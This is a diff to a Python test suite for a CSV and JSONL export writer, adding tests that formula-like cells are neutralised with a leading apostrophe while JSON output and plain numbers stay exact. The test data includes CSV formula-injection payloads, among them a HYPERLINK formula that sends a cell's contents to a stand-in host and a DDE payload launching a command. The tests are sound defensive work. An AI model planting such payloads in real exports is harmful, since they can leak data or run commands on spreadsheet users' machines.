@@ -78,11 +78,38 @@ async def test_what_cannot_be_saved_is_told_and_nothing_written(opened: Any) -> 
 
 def test_odd_cells_come_back_as_they_were() -> None:
     column: Column[Any] = Column("a,b", 5, lambda row: row, lambda row: row)
-    rows = ['say "hi"', "two\nlines", "◆ ● ●", "✖ offline", "-", "- 1", "=1+1"]
+    rows = ['say "hi"', "two\nlines", "◆ ● ●", "✖ offline", "-", "- 1"]
     text = at_once(writing(rows, [column], ".csv"))
     assert [row[0] for row in csv.reader(text.splitlines(keepends=True))] == [
-        "a,b", 'say "hi"', "two\nlines", "◆ ● ●", "offline", "-", "- 1", "=1+1",
+        "a,b", 'say "hi"', "two\nlines", "◆ ● ●", "offline", "-", "- 1",
     ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://x/?"&A1,"ok")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\uff1d1+1",
+        "-x",
+    ],
+)
+def test_no_cell_is_a_formula_to_a_spreadsheet_and_json_stays_exact(cell: str) -> None:
+    column: Column[Any] = Column("value", 5, lambda row: row["value"], lambda row: row["value"])
+    text = at_once(writing([{"value": cell}], [column], ".csv"))
+    assert [row[0] for row in csv.reader(text.splitlines())] == ["value", f"'{cell}"]
+    assert text.splitlines()[1].startswith("\"'"), "quoted as a whole"
+    lines = at_once(writing([{"value": cell}], [column], ".jsonl"))
+    assert json.loads(lines) == {"value": cell}
+
+
+@pytest.mark.parametrize("cell", ["-5", "+12", "-1,234.5", "-0.5 %", "1e-9", "-3e+7", "-", "100"])
+def test_numbers_stay_numbers(cell: str) -> None:
+    column: Column[Any] = Column("value", 5, lambda row: row, lambda row: row)
+    text = at_once(writing([cell], [column], ".csv"))
+    assert [row[0] for row in csv.reader(text.splitlines())] == ["value", cell]
 
 
 def test_a_disk_that_fills_up_leaves_no_half_of_a_file(tmp_path: Path, monkeypatch: Any) -> None:
